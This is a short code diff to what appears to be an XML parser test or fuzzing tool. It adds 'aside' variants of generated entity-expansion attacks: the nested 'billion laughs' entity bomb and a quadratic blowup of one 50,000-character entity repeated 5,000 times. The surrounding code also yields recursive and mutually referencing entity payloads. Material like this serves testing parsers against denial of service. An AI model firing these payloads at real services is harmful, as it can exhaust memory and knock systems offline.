@@ -158,6 +158,8 @@ def _external(carrier: Carrier, url: Callable[[str], str]) -> Iterator[Attack]:
 def _expansions(carrier: Carrier, _url: Callable[[str], str]) -> Iterator[Attack]:
     levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
     subset = f'<!DOCTYPE {carrier.root} [<!ENTITY l0 "lol">{levels}]>'
+    # Aside, where a robot that expands them may pass over what comes out; as a value, where it would have to keep it.
+    yield Attack("expansion", "a thousand million laughs aside", carrier.octets(aside="&l9;", prolog=subset))
     yield Attack("expansion", "a thousand million laughs", carrier.octets("&l9;", prolog=subset))
     levels = "".join(f'<!ENTITY % q{level} "{f"&#37;q{level - 1};" * 10}">' for level in range(1, 10))
     subset = f'<!DOCTYPE {carrier.root} [<!ENTITY % q0 "<!-- -->">{levels} %q9;]>'
@@ -165,6 +167,7 @@ def _expansions(carrier: Carrier, _url: Callable[[str], str]) -> Iterator[Attack
     subset = f'<!DOCTYPE {carrier.root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
     yield Attack("expansion", "entities that hold each other", carrier.octets("&a;", prolog=subset))
     subset = f'<!DOCTYPE {carrier.root} [<!ENTITY a "{"a" * 50_000}">]>'
+    yield Attack("quadratic", "one long entity 5,000 times aside", carrier.octets(aside="&a;" * 5000, prolog=subset))
     yield Attack("quadratic", "one long entity 5,000 times", carrier.octets("&a;" * 5000, prolog=subset))
 
 
